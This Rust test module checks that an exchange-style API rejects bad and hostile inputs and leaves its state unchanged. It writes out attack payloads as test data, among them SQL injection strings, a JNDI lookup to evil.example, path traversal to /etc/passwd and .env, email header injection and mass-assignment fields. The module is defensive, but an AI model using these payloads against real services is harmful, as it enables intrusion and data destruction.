//! Bad inputs and attacks, as one table: the status, then the invariant that nothing has changed.

use serde_json::{Value, json};

use crate::Case;
use crate::http::{self, Reply};
use crate::world::{User, World, limit};

pub const CASES: &[Case] = &[
    ("bad_orders_change_nothing", bad_orders_change_nothing),
    ("bad_bodies_change_nothing", bad_bodies_change_nothing),
    ("bad_queries_and_paths_change_nothing", bad_queries_and_paths_change_nothing),
    ("bad_registrations_make_nobody", bad_registrations_make_nobody),
    ("injections_are_plain_text", injections_are_plain_text),
];

const ORDERS: &str = "/api/v1/orders";

/// Checks an answer to something bad: a problem of one of these statuses, with nothing of our inside in it.
fn check(what: &str, reply: &Reply, statuses: &[u16]) {
    assert!(statuses.contains(&reply.status), "{what}: {} {}", reply.status, reply.text());
    let code = reply.problem(reply.status);
    assert!(!code.is_empty(), "{what}");
    let text = reply.text().to_lowercase();
    for word in
        ["panicked", "postgres", "select ", "insert ", "syntax error at", ".rs:", "stack backtrace"]
    {
        assert!(!text.contains(word), "{what}: {text}");
    }
}

fn bad_orders_change_nothing(world: &World) {
    let user = world.funded("10000.00", "1");
    let order = |field: &str, value: Value| {
        let mut body = limit("buy", "47000.00", "0.01");
        body[field] = value;
        body
    };
    let mut table: Vec<(Value, u16)> = Vec::new();
    // Not plain decimals, zero, below zero (X7, X8).
    for text in [
        "NaN",
        "Infinity",
        "-Infinity",
        "1e400",
        "0",
        "-1",
        "-0",
        "0.000000000",
        "−1",
        "１",
        "",
        " 1",
        "1 ",
        "0x1",
        "1_000",
        "1,5",
        "+1",
        ".5",
        "5.",
        "01",
    ] {
        table.push((order("quantity", json!(text)), 422));
        table.push((order("price", json!(text)), 422));
    }
    // Too fine, too great (X9, X11).
    for text in [
        "0.123456789",
        "9000000000000000000",
        "9223372036854775807",
        "18446744073709551616",
        "170141183460469231731687303715884105728",
        &"9".repeat(500),
    ] {
        table.push((order("quantity", json!(text)), 422));
    }
    for text in ["47000.001", "9223372036854775807", "184467440737095516.16", &"9".repeat(500)] {
        table.push((order("price", json!(text)), 422));
    }
    // Dust, and far from the market (X12, X13).
    table.push((order("quantity", json!("0.00000001")), 422));
    for text in ["0.01", "1", "25000.00", "75000.00", "1000000000000.00"] {
        table.push((order("price", json!(text)), 422));
    }
    // Other types (X6).
    for value in [json!(true), json!([]), json!({}), json!(["1"])] {
        table.push((order("quantity", value), 400));
    }
    table.push((order("quantity", json!(null)), 422));
    for value in [json!(1), json!(true), json!([]), json!({})] {
        table.push((order("market", value.clone()), 400));
        table.push((order("side", value.clone()), 400));
        table.push((order("clientOrderId", value), 400));
    }
    table.push((order("postOnly", json!("true")), 400));
    // Markets and words that are not there (X14).
    for text in [
        "BTC/USD;DROP",
        "../",
        "btc_usd ",
        "btc/usd",
        "",
        "BTC",
        "QQQ/USD",
        "BTC/USD\u{0}",
        "\u{202e}BTC/USD",
        "😀",
    ] {
        table.push((order("market", json!(text)), 422));
    }
    for field in ["side", "orderType", "timeInForce", "selfTradePrevention"] {
        for text in ["", "BUY", "allow", "' OR 1=1; --", "\u{0}", "😀"] {
            table.push((order(field, json!(text)), 422));
        }
    }
    for text in ["", " ", "a b", "ä", "\u{0}", &"x".repeat(37), "<script>"] {
        table.push((order("clientOrderId", json!(text)), 422));
    }
    // Fields that do not fit together.
    table.push((order("orderType", json!("market")), 422));
    table.push((order("triggerPrice", json!("48000.00")), 422));
    table.push((order("quoteAmount", json!("10.00")), 422));
    table.push((order("timeInForce", json!("gtd")), 422));
    table.push((order("goodTillDate", json!("2030-01-01T00:00:00Z")), 422));
    table.push((order("displayQuantity", json!("0")), 422));
    table.push((json!({}), 422));
    // Fields that are not ours to take (X5).
    for (field, value) in [
        ("role", json!("admin")),
        ("userId", json!(7)),
        ("account", json!(1)),
        ("status", json!("filled")),
        ("balance", json!(1e9)),
        ("filledQuantity", json!("1")),
    ] {
        table.push((order(field, value), 400));
    }
    let before = world.digest();
    for (body, status) in &table {
        check(&body.to_string(), &user.order(body), &[*status]);
        assert_eq!(world.digest(), before, "{body}");
    }
    // Numbers as numbers, digit by digit: never through a float.
    for number in ["1e400", "1e-400", "0.1234567891", "1E2", "-0", "184467440737095516160"] {
        let text = limit("buy", "47000.00", "Q").to_string().replace("\"Q\"", number);
        check(
            number,
            &send(&user, "POST", ORDERS, "application/json", text.as_bytes()),
            &[400, 422],
        );
    }
    assert_eq!(world.digest(), before);
}

fn send(user: &User, method: &str, path: &str, kind: &str, body: &[u8]) -> Reply {
    let bearer = format!("Bearer {}", user.token);
    let headers = [("authorization", bearer.as_str()), ("content-type", kind)];
    http::send(user.address, method, path, &headers, Some(body))
}

fn bad_bodies_change_nothing(world: &World) {
    let user = world.funded("10000.00", "0");
    let json = "application/json";
    let good = limit("buy", "47000.00", "0.01").to_string();
    let deep = "[".repeat(10_000);
    let objects = "{\"market\":".repeat(5_000);
    let twice = good.replacen('{', "{\"side\":\"sell\",", 1);
    let spaces = " ".repeat(1_000_000);
    let huge = format!("{{\"market\":\"{}\"}}", "x".repeat(10_000_000));
    let table: Vec<(&str, &str, &[u8], u16)> = vec![
        ("empty", json, b"", 400),
        ("not JSON", json, b"market=BTC", 400),
        ("cut off", json, &good.as_bytes()[..20], 400),
        ("{", json, b"{", 400),
        ("two documents", json, b"{}{}", 400),
        ("a field twice", json, twice.as_bytes(), 400),
        ("nested lists", json, deep.as_bytes(), 400),
        ("nested objects", json, objects.as_bytes(), 400),
        ("not UTF-8", json, b"{\"market\":\"\xff\xfe\"}", 400),
        ("a lone surrogate", json, b"{\"market\":\"\\ud800\"}", 400),
        ("a byte order mark", json, b"\xef\xbb\xbf{}", 400),
        ("NaN", json, b"{\"quantity\":NaN}", 400),
        ("a list", json, b"[]", 400),
        ("null", json, b"null", 400),
        ("a megabyte of spaces", json, spaces.as_bytes(), 413),
        ("ten megabytes", json, huge.as_bytes(), 413),
        ("no type", "", good.as_bytes(), 415),
        ("text", "text/plain", good.as_bytes(), 415),
        ("a form", "application/x-www-form-urlencoded", b"market=BTC", 415),
        ("multipart", "multipart/form-data; boundary=x", good.as_bytes(), 415),
        ("another character set", "application/json; charset=utf-16", good.as_bytes(), 415),
    ];
    let before = world.digest();
    for (what, kind, body, status) in table {
        check(what, &send(&user, "POST", ORDERS, kind, body), &[status]);
        assert_eq!(world.digest(), before, "{what}");
    }
    let bearer = format!("Bearer {}", user.token);
    let packed =
        [("authorization", bearer.as_str()), ("content-type", json), ("content-encoding", "gzip")];
    let bomb = http::send(user.address, "POST", ORDERS, &packed, Some(&[0x1f, 0x8b, 8, 0]));
    check("a compressed body", &bomb, &[415]);
    for path in [
        "/api/v1/wallet/deposit",
        "/api/v1/wallet/transfer",
        "/api/v1/wallet/withdraw",
        "/api/v1/auth/login",
        "/api/v1/auth/register",
        "/api/v1/auth/verify",
        "/api/v1/auth/login/second-step",
        "/api/v1/auth/password/forgot",
        "/api/v1/auth/password/reset",
        "/api/v1/auth/password/change",
        "/api/v1/auth/2fa/enrol",
        "/api/v1/auth/2fa/confirm",
        "/api/v1/auth/2fa/disable",
        "/api/v1/auth/2fa/backup-codes",
        "/api/v1/account/email",
        "/api/v1/account/email/confirm",
        "/api/v1/account/close",
    ] {
        check(path, &send(&user, "POST", path, json, b"{"), &[400]);
        check(path, &send(&user, "POST", path, json, b"{}"), &[422]);
        check(path, &send(&user, "POST", path, json, br#"{"role":"admin"}"#), &[400]);
    }
    assert_eq!(world.digest(), before);
}

fn bad_queries_and_paths_change_nothing(world: &World) {
    let user = world.funded("10000.00", "0");
    let order = user.limit("buy", "47000.00", "0.01");
    let id = order["id"].as_str().expect("an id").to_owned();
    let before = world.digest();
    for list in [
        "/api/v1/orders",
        "/api/v1/orders?status=open",
        "/api/v1/fills",
        "/api/v1/wallet/transactions",
        "/api/v1/wallet/withdraw",
    ] {
        let mark = if list.contains('?') { '&' } else { '?' };
        for query in [
            "limit=-1",
            "limit=0",
            "limit=1000000000",
            "limit=x",
            "limit=",
            "cursor=forged",
            "cursor=",
            "cursor=AAAA",
            "cursor=%00",
            "limit=%ff",
            "cursor=%27%20OR%201=1",
        ] {
            let path = format!("{list}{mark}{query}");
            check(&path, &user.get(&path), &[422]);
        }
        for query in ["page=1", "limit=1&limit=2", "user_id=7"] {
            let path = format!("{list}{mark}{query}");
            check(&path, &user.get(&path), &[400]);
        }
    }
    for query in
        ["status=nothing", "status=%00", "market=btc", "market=BTC/USD;DROP", "status='%20OR%201=1"]
    {
        check(query, &user.get(&format!("/api/v1/orders?{query}")), &[422]);
    }
    // Ids that are none, and ways around a route (X17, X19).
    let urn = format!("urn:uuid:{id}");
    let plain = id.replace('-', "");
    for name in [
        "0",
        "-1",
        "9223372036854775808",
        "1%20OR%201=1",
        "%27;--",
        "%00",
        "%ff",
        "null",
        "me",
        &urn,
        &plain,
        "00000000-0000-0000-0000-000000000000",
        "client:",
        "client:%00",
        "client:nobody's",
    ] {
        for (method, list) in [
            ("GET", ORDERS),
            ("DELETE", ORDERS),
            ("GET", "/api/v1/wallet/withdraw"),
            ("DELETE", "/api/v1/wallet/withdraw"),
        ] {
            let path = format!("{list}/{name}");
            check(&format!("{method} {path}"), &user.send(method, &path, &[], None), &[404]);
        }
    }
    for path in [
        "/api/v1/orders/",
        "/api/v1//orders",
        "//api/v1/orders",
        "/api/v1/orders/%2e%2e/auth/me",
        "/api/v1/./orders",
        "/API/v1/orders",
        "/api/v1%2forders",
        "/api/v2/orders",
        "/.env",
        "/api/v1/admin",
        "/api/v1/admin/",
        "/api/v1/admin/users/",
        "/api/v1//admin/users",
        &format!("/api/v1/orders/{id}/"),
    ] {
        check(path, &user.get(path), &[404]);
    }
    for (method, path) in [
        ("PUT", ORDERS),
        ("PATCH", ORDERS),
        ("POST", "/api/v1/wallet/balances"),
        ("DELETE", "/api/v1/auth/me"),
        ("TRACE", ORDERS),
        ("BREW", "/health"),
        ("GET", "/api/v1/auth/login"),
    ] {
        let reply = user.send(method, path, &[], None);
        check(&format!("{method} {path}"), &reply, &[405]);
        assert!(reply.header("allow").is_some(), "{method} {path}");
    }
    // A header cannot make one method another (X33).
    let bearer = [
        ("x-http-method-override", "DELETE"),
        ("x-user-id", "1"),
        ("x-original-url", "/api/v1/admin"),
    ];
    assert_eq!(user.send("GET", &format!("{ORDERS}/{id}"), &bearer, None).status, 200);
    assert_eq!(world.digest(), before);
    user.delete("/api/v1/orders").expect(200);
}

fn bad_registrations_make_nobody(world: &World) {
    let before = world.digest();
    let long = format!("{}@example.com", "x".repeat(10_000));
    for email in [
        "",
        "x",
        "x@",
        "@example.com",
        "x@example",
        "x y@example.com",
        "x@example.com\u{0}",
        "x@exаmple.com",
        "ｘ@example.com",
        "x@example.com\u{202e}",
        "😀@example.com",
        &long,
        "x@example.com, y@example.com",
        "x@example.com\r\nBcc: y@example.com",
    ] {
        let body = json!({ "email": email, "password": "correct horse battery" });
        check(email, &world.post("/api/v1/auth/register", &body), &[422]);
    }
    for password in
        ["", "short", &"x".repeat(129), "correct\u{0}horse battery", "someone@example.com"]
    {
        let body = json!({ "email": "someone@example.com", "password": password });
        check(password, &world.post("/api/v1/auth/register", &body), &[422]);
    }
    let admin = json!({ "email": world.fresh_email(), "password": "correct horse battery", "role": "admin", "verified": true });
    check("mass assignment", &world.post("/api/v1/auth/register", &admin), &[400]);
    let login = json!({ "email": "someone@example.com", "password": "x".repeat(100_000) });
    check("a long password", &world.post("/api/v1/auth/login", &login), &[413]);
    for code in ["", "12345", "1234567", "１２３４５６", "12345\u{0}", "' OR 1=1"] {
        let body = json!({ "email": "someone@example.com", "code": code });
        check(code, &world.post("/api/v1/auth/verify", &body), &[422]);
    }
    assert_eq!(world.digest(), before);
}

fn injections_are_plain_text(world: &World) {
    let user = world.funded("100.00", "0");
    let before = world.digest();
    let users = |world: &World| {
        let db = world.db.clone();
        let count = async move {
            let client = db.get().await.expect("the database answers");
            client
                .query_one("SELECT count(*) FROM users", &[])
                .await
                .expect("it counts")
                .get::<_, i64>(0)
        };
        world.runtime.block_on(count)
    };
    let count = users(world);
    for text in [
        "'; DROP TABLE users; --",
        "1 OR 1=1",
        "$1",
        "%s%n",
        "${jndi:ldap://evil.example/x}",
        "\\x00",
        "\u{0}",
        "../../etc/passwd",
    ] {
        for (path, body) in [
            ("/api/v1/wallet/deposit", json!({ "asset": text, "amount": "1" })),
            ("/api/v1/wallet/deposit", json!({ "asset": "USD", "amount": text })),
            ("/api/v1/wallet/transfer", json!({ "asset": "USD", "amount": "1", "to": text })),
            (
                "/api/v1/wallet/withdraw",
                json!({ "asset": text, "amount": "1", "destination": "x" }),
            ),
            ("/api/v1/orders", json!({ "market": text })),
        ] {
            check(&body.to_string(), &user.post(path, &body), &[422]);
        }
        let body = json!({ "email": text, "password": text });
        check(text, &world.post("/api/v1/auth/login", &body), &[422]);
    }
    let spaced = json!({ "asset": "USD", "amount": "1", "reference": "a b" });
    check("a reference with a space", &user.post("/api/v1/wallet/deposit", &spaced), &[422]);
    let nul = json!({ "asset": "USD", "amount": "1", "destination": "x\u{0}y" });
    check("a destination with a NUL", &user.post("/api/v1/wallet/withdraw", &nul), &[422]);
    assert_eq!(users(world), count);
    assert_eq!(world.digest(), before);
}
